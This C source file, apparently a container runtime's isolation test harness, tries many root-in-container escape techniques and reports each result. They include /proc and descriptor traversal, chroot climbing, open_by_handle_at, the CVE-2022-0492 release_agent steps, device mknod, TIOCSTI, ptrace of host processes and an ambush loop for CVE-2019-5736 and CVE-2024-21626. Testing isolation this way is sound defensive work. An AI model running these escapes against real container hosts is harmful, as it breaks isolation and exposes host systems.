/* escape.c - what an intruder does inside a container as root. Each act prints what came of each try; what must not be possible is seen
 * in the test that runs it (escape_test.c).
 */
#define _GNU_SOURCE
#include "escape.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <net/if.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

/* 0 for what is none, as every name in /proc that is no process */
static int number_of(const char *text)
{
	return (int)strtol(text, NULL, 10);
}

static void tell(const char *what, long result)
{
	printf("%s: %s\n", what, result < 0 ? strerror(errno) : "ok");
}

/* --- what is in sight -------------------------------------------------------------------------- */

/* Number and target of each descriptor but the one that reads the directory. */
static void descriptors(void)
{
	DIR *dir = opendir("/proc/self/fd");
	struct dirent *entry;

	while (dir && (entry = readdir(dir))) {
		char path[300], target[300];

		snprintf(path, sizeof path, "/proc/self/fd/%s", entry->d_name);
		ssize_t length = readlink(path, target, sizeof target - 1);

		if (length < 0 || number_of(entry->d_name) == dirfd(dir))
			continue;
		target[length] = '\0';
		target[strcspn(target, ":")] = '\0';
		printf("%s %s\n", entry->d_name, target);
	}
}

static void processes(void)
{
	DIR *dir = opendir("/proc");
	struct dirent *entry;

	while (dir && (entry = readdir(dir)))
		if (number_of(entry->d_name) > 0)
			printf("%s ", entry->d_name);
	puts("");
}

/* Lines of a file that have a word in them. */
static void lines_with(const char *path, const char *word)
{
	FILE *file = fopen(path, "r");
	char line[8192];

	if (!file)
		tell(path, -1);
	while (file && fgets(line, sizeof line, file))
		if (strstr(line, word))
			fputs(line, stdout);
	if (file)
		fclose(file);
}

/* All files below that may be written to, as their mode says, and can be opened for it; nothing is written. Links are not followed, nor are
 * other processes looked into. Root opens also what has no way to be written. */
static void writable_below(const char *top)
{
	DIR *dir = opendir(top);
	struct dirent *entry;

	while (dir && (entry = readdir(dir))) {
		char path[4096];
		struct stat st;

		snprintf(path, sizeof path, "%s/%s", top, entry->d_name);
		if (entry->d_name[0] == '.' || lstat(path, &st) < 0 || (strcmp(top, "/proc") == 0 && number_of(entry->d_name) > 0))
			continue;
		if (S_ISDIR(st.st_mode)) {
			writable_below(path);
		} else if (S_ISREG(st.st_mode) && st.st_mode & 0222) {
			int fd = open(path, O_WRONLY | O_NONBLOCK | O_NOFOLLOW);

			if (fd >= 0) {
				puts(path);
				close(fd);
			}
		}
	}
	if (dir)
		closedir(dir);
}

/* A group below each that is in sight. */
static void make_groups(const char *top)
{
	char path[512];
	struct dirent **names;
	int count = scandir(top, &names, NULL, alphasort), made = 0;

	for (int i = 0; i < count; i++) {
		snprintf(path, sizeof path, "%s/%s/escape", top, names[i]->d_name);
		if (strcmp(names[i]->d_name, "..") != 0 && mkdir(path, 0755) == 0)
			made += printf("made %s\n", path);
	}
	if (!made)
		puts("no group could be made");
}

/* --- ways to the host's files ------------------------------------------------------------------ */

static void try_to_read(const char *how, const char *path)
{
	char text[64] = "";
	int fd = open(path, O_RDONLY);

	if (fd < 0 || read(fd, text, sizeof text - 1) < 0)
		tell(how, -1);
	else
		printf("%s: read %s\n", how, text);
	if (fd >= 0)
		close(fd);
}

/* The marker is a path on the host. */
static void reach(const char *marker)
{
	static const char *const below[] = { "", "/proc/1/root", "/proc/self/root", "/proc/1/cwd/../../../../../..", "/proc/self/cwd/../../../../../..",
					     "/../../../../..", "/proc/1/task/1/root" };
	char path[1024];

	for (size_t i = 0; i < sizeof below / sizeof *below; i++) {
		snprintf(path, sizeof path, "%s%s", below[i], marker);
		try_to_read(below[i][0] ? below[i] : "/", path);
	}
	/* leaked directories */
	for (int fd = 0; fd < 64; fd++) {
		snprintf(path, sizeof path, "/proc/self/fd/%d/../../../../../../..%s", fd, marker);
		if (access(path, F_OK) == 0)
			try_to_read("descriptor", path);
	}
}

/* The old way out of chroot(2): keep a directory above the new root, and climb. */
static void climb(const char *marker)
{
	int above = open("/", O_RDONLY | O_DIRECTORY);

	mkdir("/tmp/jail", 0755);
	tell("chroot", chroot("/tmp/jail"));
	tell("back above it", fchdir(above));
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			break;
	tell("chroot .", chroot("."));
	try_to_read("outside", marker);
}

/* The root directory of a file system by its inode number, past every mount namespace ("shocker"). */
static void by_handle(void)
{
	struct { struct file_handle handle; unsigned char bytes[8]; } root = { { 8, 1 }, { 2 } };
	int mount_fd = open("/etc/hosts", O_RDONLY);

	tell("open_by_handle_at", open_by_handle_at(mount_fd, &root.handle, O_RDONLY));
}

/* --- ways into the kernel ---------------------------------------------------------------------- */

/* The steps of CVE-2022-0492 up to where it has won. */
static void release_agent(void)
{
	tell("unshare user", unshare(CLONE_NEWUSER));
	tell("unshare mount", unshare(CLONE_NEWNS));
	tell("unshare cgroup", unshare(0x02000000));
	mkdir("/tmp/rdma", 0755);
	tell("mount cgroup", mount("cgroup", "/tmp/rdma", "cgroup", 0, "rdma"));
	tell("mount cgroup2", mount("cgroup2", "/tmp/rdma", "cgroup2", 0, NULL));
	tell("release_agent", open("/tmp/rdma/release_agent", O_WRONLY));
}

/* A node of the device that the root lies on, and of the memory. */
static void devices(const char *major_text, const char *minor_text)
{
	dev_t disk = makedev((unsigned)number_of(major_text), (unsigned)number_of(minor_text));
	static const struct { const char *path; mode_t mode; unsigned major, minor; } nodes[] = {
		{ "/tmp/mem", S_IFCHR, 1, 1 }, { "/tmp/port", S_IFCHR, 1, 4 }, { "/tmp/kmsg", S_IFCHR, 1, 11 }, { "/tmp/fuse", S_IFCHR, 10, 229 },
		{ "/tmp/kvm", S_IFCHR, 10, 232 }, { "/tmp/tty1", S_IFCHR, 4, 1 }, { "/tmp/loop", S_IFBLK, 7, 0 }, { "/dev/shm/zero", S_IFCHR, 1, 5 },
	};

	if (mknod("/tmp/disk", S_IFBLK | 0666, disk) < 0)
		tell("mknod disk", -1);
	tell("disk", open("/tmp/disk", O_RDONLY));
	tell("disk for writing", open("/tmp/disk", O_WRONLY));
	for (size_t i = 0; i < sizeof nodes / sizeof *nodes; i++) {
		if (mknod(nodes[i].path, nodes[i].mode | 0666, makedev(nodes[i].major, nodes[i].minor)) < 0)
			tell("mknod", -1);
		tell(nodes[i].path, open(nodes[i].path, O_RDWR | O_NONBLOCK));
	}
}

static void typing(void)
{
	tell("/dev/tty", open("/dev/tty", O_RDWR));
	tell("/dev/console", open("/dev/console", O_RDWR));
	for (int fd = 0; fd < 3; fd++)
		tell("TIOCSTI", ioctl(fd, TIOCSTI, "x"));
}

/* A process of the host, by its number there. */
static void strangers(const char *pid_text)
{
	pid_t pid = number_of(pid_text);

	tell("kill", kill(pid, 0));
	tell("ptrace", ptrace(PTRACE_ATTACH, pid, NULL, NULL));
	tell("pidfd_open", syscall(SYS_pidfd_open, pid, 0));
	char path[64];

	snprintf(path, sizeof path, "/proc/%d/environ", (int)pid);
	tell("environ", open(path, O_RDONLY));
}

static void segment(const char *key)
{
	tell("shmget", shmget((key_t)strtol(key, NULL, 0), 0, 0600));
}

/* Runs a program; its output is ours. */
static void run(char **words)
{
	int status = 0;

	fflush(stdout);
	pid_t pid = fork();

	if (pid == 0) {
		execv(words[0], words);
		tell(words[0], -1);
		fflush(stdout);
		_exit(127);
	}
	waitpid(pid, &status, 0);
	if (WIFSIGNALED(status))
		printf("%s: killed by %s\n", words[0], strsignal(WTERMSIG(status)));
}

/* Opened without being touched, then for writing by the descriptor. */
static void grab(const char *program)
{
	int held = open(program, O_PATH | O_CLOEXEC);
	char path[64];

	snprintf(path, sizeof path, "/proc/self/fd/%d", held);
	tell("grabbed", held < 0 ? held : open(path, O_RDWR | O_CLOEXEC));
}

/* --- waiting for a process that comes in -------------------------------------------------------- */

/* What it runs; "" when it is gone, or does not let us see. */
static const char *program_of(const char *pid)
{
	static char target[300];
	char path[64];

	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	ssize_t length = readlink(path, target, sizeof target - 1);

	target[length < 0 ? 0 : length] = '\0';
	return target;
}

static bool is_probe(const char *pid)
{
	return strncmp(program_of(pid), "/bin/probe", 10) == 0;
}

/* CVE-2019-5736: kept open without being written to, until it is nobody's program any more. */
static void grab_program(const char *pid)
{
	static int held = -1;
	char path[64];

	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	if (held < 0 && (held = open(path, O_PATH | O_CLOEXEC)) >= 0 && is_probe(pid)) {
		close(held);
		held = -1;
	}
	if (held < 0)
		return;
	snprintf(path, sizeof path, "/proc/self/fd/%d", held);
	int fd = open(path, O_WRONLY | O_CLOEXEC);

	if (fd >= 0)
		puts("won: the program that came in can be written to");
}

/* CVE-2016-9962, CVE-2024-21626: what it has open, where it stands, its memory. */
static void look_into(const char *pid, const char *marker, bool may_trace)
{
	static const char *const below[] = { "root", "cwd", "cwd/../../../../../..", "task/1/root" };
	char path[1024], target[300];

	for (size_t i = 0; i < sizeof below / sizeof *below; i++) {
		snprintf(path, sizeof path, "/proc/%s/%s%s", pid, below[i], marker);
		if (access(path, F_OK) == 0)
			printf("won: %s\n", path);
	}
	for (int fd = 0; fd < 32; fd++) {
		snprintf(path, sizeof path, "/proc/%s/fd/%d", pid, fd);
		ssize_t length = readlink(path, target, sizeof target - 1);

		target[length < 0 ? 0 : length] = '\0';
		/* what is there inside as well is the container's own */
		if (length > 0 && access(target, F_OK) < 0 && strncmp(target, "pipe:", 5) != 0 && strncmp(target, "socket:", 7) != 0 && !is_probe(pid))
			printf("won: descriptor %s\n", target);
		snprintf(path, sizeof path, "/proc/%s/fd/%d/../../../../../..%s", pid, fd, marker);
		if (access(path, F_OK) == 0)
			printf("won: %s\n", path);
	}
	if (!may_trace && ptrace(PTRACE_ATTACH, number_of(pid), NULL, NULL) == 0) {
		waitpid(number_of(pid), NULL, 0);
		if (program_of(pid)[0] && !is_probe(pid))
			puts("won: traced");
		ptrace(PTRACE_DETACH, number_of(pid), NULL, NULL);
		kill(number_of(pid), SIGCONT);        /* it may have stopped for exec before it did for us */
	}
}

/* Every process that comes in, as long as it is not the container's own program yet; until one of our own tells us to stop. */
static void ambush(const char *marker, bool may_trace)
{
	int seen = 0;

	puts("lying in wait");
	fflush(stdout);
	while (access("/tmp/stop", F_OK) < 0) {
		DIR *dir = opendir("/proc");
		struct dirent *entry;

		while (dir && (entry = readdir(dir)))
			if (number_of(entry->d_name) > 1 && !is_probe(entry->d_name)) {
				seen++;
				grab_program(entry->d_name);
				look_into(entry->d_name, marker, may_trace);
			}
		if (dir)
			closedir(dir);
		grab_program("1");
	}
	printf("saw %s\n", seen ? "them" : "nobody");
}

bool escape_act(const char *name, char **words)
{
#define IS(word) (strcmp(name, word) == 0)
	if (IS("descriptors")) descriptors();
	else if (IS("processes")) processes();
	else if (IS("lines")) lines_with(words[0], words[1]);
	else if (IS("writable")) writable_below(words[0]);
	else if (IS("groups")) make_groups(words[0]);
	else if (IS("reach")) reach(words[0]);
	else if (IS("read")) try_to_read(words[0], words[0]);
	else if (IS("climb")) climb(words[0]);
	else if (IS("handle")) by_handle();
	else if (IS("release")) release_agent();
	else if (IS("devices")) devices(words[0], words[1]);
	else if (IS("typing")) typing();
	else if (IS("strangers")) strangers(words[0]);
	else if (IS("segment")) segment(words[0]);
	else if (IS("run")) run(words);
	else if (IS("ambush")) ambush(words[0], words[1]);
	else if (IS("grab")) grab(words[0]);
	else if (IS("calls")) calls_act();
	else if (IS("euid")) printf("euid %u egid %u\n", geteuid(), getegid());
	else if (IS("setuid")) tell("setuid", setuid((uid_t)number_of(words[0])));
	else if (IS("rawsocket")) tell("raw socket", socket(2, SOCK_RAW, 1));
	else if (IS("link")) tell("symlink", symlink(words[0], words[1]));
	else if (IS("chown")) tell("chown", chown(words[0], (uid_t)number_of(words[1]), (gid_t)-1));
	else if (IS("chmod")) tell("chmod", chmod(words[0], (mode_t)strtoul(words[1], NULL, 8)));
	else return false;
	return true;
}
